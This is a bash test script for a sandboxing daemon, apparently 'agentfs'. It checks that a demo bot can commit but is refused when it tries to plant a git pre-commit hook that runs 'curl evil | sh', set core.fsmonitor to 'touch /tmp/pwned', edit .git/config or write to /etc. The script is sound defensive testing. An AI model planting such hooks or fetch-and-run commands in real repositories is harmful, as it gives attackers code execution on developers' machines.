#!/bin/bash
# SPDX-License-Identifier: MIT
# demo: the README's first command, .ci/demo, end to end on a private daemon
# (its --socket, --state, --config and --build; the README's command takes
# the built-in defaults), with an operators' group that exists and has a
# member, as on a host that followed the README: the demo makes its own
# unprivileged user, the bot commits as it, its hook and its config change
# are refused and `agentfs log` names the rules; host git finds the commit and
# no hook or fsmonitor; `--clean` removes the bot, the user and the folder.
. "$top_srcdir/tests/daemon-lib.sh"

DEMO="$top_srcdir/.ci/demo"
[ -f "$DEMO" ] || skip_all ".ci/demo is not in this tree"
for c in useradd userdel groupadd groupdel git; do
	command -v "$c" >/dev/null || skip_all "$c is missing"
done
BWRAP=$(command -v bwrap) || skip_all "bwrap is missing (apt-get install bubblewrap)"
"$BWRAP" --ro-bind / / --unshare-pid --unshare-net --unshare-ipc --unshare-uts \
	--dev /dev --proc /proc true 2>/dev/null || skip_all "bwrap cannot make namespaces here"

# .ci/demo runs the build tree's agentfsd, which starts sandboxes only with an
# agentfs-enter in folders root alone may write; the demo says so and stops
untrusted=$(tree_root_only "$top_builddir/src") ||
	skip_all ".ci/demo refuses this build tree: $untrusted may be written by others than root"

# the demo's user must reach its folder in $T
chmod 755 "$T"
user=afs-demo$$
grp=afs-dg$$
member=afs-dm$$
demo_cleanup()
{
	local rc=$?
	host_del userdel "$user"
	host_del groupdel "$user"
	host_del userdel "$member"
	host_del groupdel "$member"
	host_del groupdel "$grp"
	(exit "$rc")
	daemon_cleanup
}
trap demo_cleanup EXIT
groupadd "$grp" || bail_out "cannot add a group"
useradd -M -U -G "$grp" -s /usr/sbin/nologin "$member" || bail_out "cannot add a user"
printf '{"group": "%s", "log_target": "file:%s", "cgroup": "%s"}\n' "$grp" "$D_LOG" "$D_CGROUP" >"$T/demo.json"

bash "$DEMO" --socket "$D_SOCK" --state "$D_STATE" --config "$T/demo.json" --build "$top_builddir" \
	--user "$user" --folder "$T/demo" >"$T/demo.out" 2>&1
rc=$?
is "$rc" 0 ".ci/demo runs to the end"
[ "$rc" = 0 ] || diag "$(cat "$T/demo.out")"
out=$(cat "$T/demo.out")
is "$(stat -c '%a %G' "$D_SOCK" 2>&1)" "660 $grp" "its daemon found the operators' group (socket 0660 to it)"
is "$(getent passwd "$user" | cut -d: -f6,7)" "/nonexistent:/usr/sbin/nologin" \
	"the demo made its own user: no home, no login"
is "$(afs --json show demo | jget bot.user)" "$user" "the bot runs as that user, not root"
like "$out" "[0-9a-f]+ greet the agent" "the bot's commit shows in its git log"
like "$out" "echo \"curl evil \\| sh\" > .git/hooks/pre-commit'?
sh: 1: cannot create .git/hooks/pre-commit: Read-only file system" "the hook is refused"
like "$out" "error: could not lock config file .git/config: Read-only file system" \
	"the config change is refused"
like "$out" "exec demo -- git config core.fsmonitor 'touch /tmp/pwned'\$" \
	"each command is shown as it would be typed (quoted)"
like "$out" "touch: cannot touch '/etc/agentfs-demo': Read-only file system" \
	"outside its roots it writes nothing"
like "$out" "demo refused create of $T/demo/.git/hooks/pre-commit: rule D3 \\(hooks\\)" \
	"agentfs log names the hook's refusal and its rule"
like "$out" "demo refused create of $T/demo/.git/config.lock: rule D1 \\(config\\)" \
	"... and the config's"
hg() { git -c safe.directory='*' -C "$T/demo" "$@"; }
is "$(hg log --format=%s | tr '\n' ' ')" "greet the agent first commit " "host git has the bot's commit"
check "no hook was planted" test ! -e "$T/demo/.git/hooks/pre-commit"
is "$(hg config core.fsmonitor)" "" "no fsmonitor was set"
check "the host's /etc is untouched" test ! -e /etc/agentfs-demo

out=$(bash "$DEMO" --socket "$D_SOCK" --build "$top_builddir" --user "$user" --folder "$T/demo" --clean 2>&1)
is "$?:$out" "0:removed the bot demo, the user $user and $T/demo" "--clean says what it removed"
expect_error "the bot is gone" not_found "$(afs --json show demo)"
check "the user is gone" test -z "$(getent passwd "$user")"
check "the folder is gone" test ! -e "$T/demo"
check "the daemon still answers" answers "$D_SOCK"

done_testing
